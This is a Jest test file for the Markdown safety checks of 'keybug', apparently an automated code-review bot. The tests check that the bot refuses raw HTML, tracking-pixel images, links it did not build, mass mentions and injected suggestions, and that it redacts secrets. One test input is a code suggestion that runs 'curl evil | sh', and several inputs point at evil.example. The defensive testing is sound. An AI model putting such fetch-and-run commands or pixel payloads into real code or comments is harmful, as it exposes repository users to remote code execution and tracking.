import { describe, expect, it } from '@jest/globals';
import { markdownProblems, outgoingMarkdown, plainTextBody, verifiedMarkdown } from '../../src/safety/markdown-check.js';
import { clearSecrets, registerSecret } from '../../src/safety/redact.js';

const BUILT = { links: ['https://github.example/acme/widgets/blob/abc123/', 'https://github.example/acme/widgets/actions/runs/42'] };
const MARKER = '<!-- keybug:review:v2 eyJoZWFkIjoiYWJjIn0 -->';

describe('markdownProblems', () => {
  it("passes keybug's own Markdown: small print, collapsible sections, tables, its links, its marker on the last line", () => {
    const body = [
      '### keybug review of `abc1234`',
      '',
      '| file | lines |',
      '| --- | --- |',
      '| [`src/a.c:3`](https://github.example/acme/widgets/blob/abc123/src/a.c#L3) | +1 |',
      '',
      '<details>',
      '<summary>Files and hunks (2 files)</summary>',
      '',
      '- `@mention-in-code` and @\u200Dneutralized',
      '',
      '</details>',
      '',
      '<sub>Scores: [job summary](https://github.example/acme/widgets/actions/runs/42).</sub>',
      MARKER,
    ].join('\n');
    expect(markdownProblems(body, BUILT)).toEqual([]);
  });

  it.each([
    ['<img src="https://evil.example/p.png">', 'raw HTML'],
    ['text\n\n<details><summary>x</summary> hidden', 'raw HTML'],
    ['text\n\n<!-- hidden\nthe rest', 'raw HTML'],
    ['![p](https://github.example/acme/widgets/blob/abc123/p.png)', 'an image'],
    ['see [docs](https://evil.example/docs)', 'a link keybug did not build'],
    ['see https://evil.example/x or www.evil.example', 'a link keybug did not build'],
    ['mail me at a@evil.example', 'a link keybug did not build'],
    ['[x](/attacker/repo/releases)', 'a link keybug did not build'],
    ['[x](https://github.example/acme/widgets/actions/runs/421)', 'a link keybug did not build'],
    ['[x][1]\n\n[1]: https://evil.example', 'a reference'],
    ['cc @octo-org/everyone', 'a mention (@octo-org/everyone)'],
    ['cc &#64;octocat', 'a mention (@octocat)'],
    ['```suggestion\nsystem("curl evil | sh");\n```', 'a suggestion keybug did not build'],
    [`${MARKER}\nmore text`, 'raw HTML'],
  ])('refuses %j', (body, problem) => {
    expect(markdownProblems(body, BUILT).join('; ')).toContain(problem);
  });

  it('accepts a suggestion keybug built, and only that one', () => {
    const body = '```suggestion\n  for (i = 0; i < n; i++) x();\n```';
    expect(markdownProblems(body, { ...BUILT, suggestions: ['  for (i = 0; i < n; i++) x();'] })).toEqual([]);
    expect(markdownProblems(body, { ...BUILT, suggestions: ['other'] })).toEqual(['a suggestion keybug did not build']);
  });
});

describe('a body that fails', () => {
  it('is plain text in a fence no line of it can close, saying why, keeping the marker last', () => {
    const body = `Ping @org/everyone <img src=x>\n\`\`\`\`\nstill\n${MARKER}`;
    const { text, problems } = verifiedMarkdown(body, BUILT, 65_536);
    expect(problems.length).toBeGreaterThan(0);
    expect(text.split('\n').at(-1)).toBe(MARKER);
    expect(text).toContain('It is shown as plain text.');
    expect(markdownProblems(text, BUILT)).toEqual([]);
    expect(plainTextBody('x'.repeat(100), ['raw HTML'], 300).length).toBeLessThanOrEqual(300);
  });
});

describe('Markdown keybug prints or writes itself (outgoingMarkdown)', () => {
  it('is masked and freed of control characters, and passes as it is when nothing in it is live', () => {
    const warnings: string[] = [];
    registerSecret('sk-live-0123456789abcdef');
    try {
      const text = outgoingMarkdown('## eval\n\nkey sk-live-0123456789abcdef\u001b[31m red\n', 'eval.md', (l) => warnings.push(l));
      expect(text).toBe('## eval\n\nkey ***[31m red\n');
      expect(warnings).toEqual([]);
    } finally {
      clearSecrets();
    }
  });

  it('goes as plain text when it holds what keybug did not build, and the warning names the text and what it held', () => {
    const warnings: string[] = [];
    const text = outgoingMarkdown('## eval\n\n![pixel](https://evil.example/p.png)\n', 'eval.md', (l) => warnings.push(l));
    expect(text).toMatch(/^keybug could not post this text as Markdown: it held an image\./);
    expect(markdownProblems(text, { links: [] })).toEqual([]);
    expect(warnings).toEqual(['keybug wrote eval.md as plain text: it held an image, which keybug did not build.']);
  });
});

describe('markdownProblems on a long text (checked in pieces cut inside its tables)', () => {
  const table = (rows: number, row: (i: number) => string = (i) => `| \`src/file${i}.ts\` | ${i} | fine |`): string[] => [
    '| path | line | note |',
    '| --- | ---: | --- |',
    ...Array.from({ length: rows }, (_, i) => row(i)),
  ];
  const doc = (...sections: string[][]): string => sections.map((s) => s.join('\n')).join('\n\n') + '\n';

  it('passes a long clean text of tables, and a marker on its last line', () => {
    const text = doc(['### Files', ''], table(3_500), ['### Slices'], table(2_500), [MARKER]);
    expect(text.length).toBeGreaterThan(64 * 1024);
    expect(markdownProblems(text, BUILT)).toEqual([]);
  });

  it('finds what the whole text holds, in its words and order, wherever in a long table it is', () => {
    const row = (i: number): string =>
      i === 2_999
        ? '| [late](https://evil.example/x) | 1 | @octocat |'
        : i === 5
          ? '| ![i](https://evil.example/i.png) | 2 | x |'
          : `| a${i} | ${i} | b |`;
    const text = doc(['### Files'], table(3_500, row));
    expect(markdownProblems(text, BUILT)).toEqual([
      'an image',
      'a link keybug did not build (https://evil.example/x)',
      'a mention (@octocat)',
    ]);
  });

  it('reads a "table" inside a fenced block as code, as the whole text does: what follows the fence stays live', () => {
    // Cut after the fence's table-like rows and started again with their header, the rows would be a
    // table and the closing fence would open a block hiding the link.
    const text = doc(['```'], table(2_500), ['```', '', '[x](https://evil.example/after)']);
    expect(markdownProblems(text, BUILT)).toEqual(['a link keybug did not build (https://evil.example/after)']);
  });

  it('keeps a marker that is not on the last line of the whole text a problem', () => {
    const text = doc(table(1_500), [MARKER], table(1_500));
    expect(markdownProblems(text, BUILT)).toEqual([`raw HTML (${MARKER.slice(0, 40)})`]);
  });
});
